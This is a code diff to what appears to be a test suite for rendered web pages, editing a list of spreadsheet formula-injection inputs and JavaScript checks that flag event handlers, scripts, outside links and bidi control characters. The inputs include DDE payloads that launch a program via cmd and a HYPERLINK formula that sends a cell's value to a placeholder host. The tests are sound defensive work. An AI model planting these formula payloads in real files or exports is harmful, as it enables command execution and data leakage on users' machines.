@@ -89,7 +89,7 @@ FORMULAS = (
     "x\n=cmd|'/c calc'!A0",
     "x,=cmd|'/c calc'!A0,y",
     "x;=cmd|'/c calc'!A0;y",
-    'x,"=cmd|\'/c calc\'!A0",y',
+    "x,\"=cmd|'/c calc'!A0\",y",
     "x\t\u200b@SUM(1+1)*cmd|' /C calc'!A0",
     '=HYPERLINK("http://x.invalid?"&A1,"here")',
     '";=HYPERLINK("http://x.invalid","y");"',
@@ -105,15 +105,15 @@ WORDS = (*ALIVE, *BIDI, *RIGHT_TO_LEFT, *BROKEN, *HIDDEN, *EMOJI, *WIDE, *NAMES,
 
 # How somebody would look for it: text by text, from the top of the page to its end.
 STRANGE = """() => {
-  const own = location.origin, found = [];
+  const found = [];
   if (window.alive) found.push('a script ran');
   for (const each of document.querySelectorAll('body *')) {
-    if ([...each.attributes].some(a => a.name.startsWith('on'))) found.push('handler ' + each.outerHTML.slice(0, 90));
-    if (/^(script|object|embed|base|link|meta|style)$/i.test(each.localName)) found.push(each.outerHTML.slice(0, 90));
-    for (const url of ['href', 'src', 'action', 'srcdoc', 'formaction'].map(a => each.getAttribute(a)).filter(u => u !== null))
-      if (!/^(\\/(?!\\/)|#)/.test(url)) found.push('leads to ' + url.slice(0, 90));
+    const start = each.outerHTML.slice(0, 90);
+    if (each.getAttributeNames().some(name => name.startsWith('on'))) found.push('handler ' + start);
+    if (/^(script|object|embed|base|link|meta|style)$/i.test(each.localName)) found.push(start);
+    for (const name of ['href', 'src', 'action', 'srcdoc', 'formaction'])
+      if (each.hasAttribute(name) && !/^(\\/(?!\\/)|#)/.test(each.getAttribute(name))) found.push('leads to ' + start);
   }
-  for (const each of document.querySelectorAll('iframe')) if (!each.src.startsWith(own + '/')) found.push('frame');
   if (/[\\u061c\\u200e\\u200f\\u202a-\\u202e\\u2066-\\u2069]/.test(document.documentElement.outerHTML))
     found.push('a control');
   const wide = document.scrollingElement.scrollWidth - innerWidth;
@@ -134,8 +134,8 @@ REORDERED = """values => {
   const blocks = new Map(), found = [];
   const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
   for (let node; (node = walker.nextNode()); ) {
-    if (!node.parentElement.checkVisibility() || node.parentElement.closest('.hidden, .skip, script, option')) continue;
-    const block = node.parentElement.closest('p, body, h1, h2, h3, h4, h5, li, a, label, summary, button, figcaption, div');
+    if (!node.parentElement.checkVisibility() || node.parentElement.closest('.words, .hidden, .skip')) continue;
+    const block = node.parentElement.closest('p, h1, h2, h3, h4, h5, li, a, label, summary, button, div, body');
     if (getComputedStyle(block).direction === 'rtl') continue;
     for (const [start, end] of rests(node.data)) {
       const range = new Range();
